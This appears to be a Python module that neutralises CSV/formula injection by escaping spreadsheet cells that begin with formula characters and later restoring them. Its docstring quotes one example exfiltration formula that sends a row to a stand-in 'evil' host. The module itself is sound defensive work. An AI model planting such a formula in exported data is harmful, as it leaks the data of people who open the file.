"""Cells a spreadsheet would run as formulas (CSV/formula injection) are written as plain text.

A scraped sentence or a model answer may start with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return, which some programs skip before looking for one); opened in Excel, LibreOffice or
Google Sheets such a cell runs, e.g. ``=HYPERLINK("http://evil/?"&A1)`` sends the row away.

CSV: OWASP's remedy, a leading apostrophe, applied so it can be undone exactly: text that starts
with a formula character, or with apostrophes followed by one, gains one apostrophe; reading back
removes one from text of that shape. XLSX: the cell is stored as a string with Excel's own
"quote prefix" style, so the text is shown and kept as typed and never becomes a formula.
"""

from __future__ import annotations

import regex

# OWASP's list of characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
_ESCAPED_SHAPE = regex.compile(r"'*[=+\-@\t\r]")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet program would treat ``text`` as a formula (or its escaped form)."""
    return bool(_ESCAPED_SHAPE.match(text))


def neutralise_formula(text: str) -> str:
    """``text`` with one leading apostrophe when it looks like a formula (or like an escaped one)."""
    return ESCAPE + text if is_formula_like(text) else text


def restore_formula(text: str) -> str:
    """The inverse of ``neutralise_formula``: one apostrophe removed from an escaped formula shape."""
    if text.startswith(ESCAPE) and is_formula_like(text[1:]):
        return text[1:]
    return text
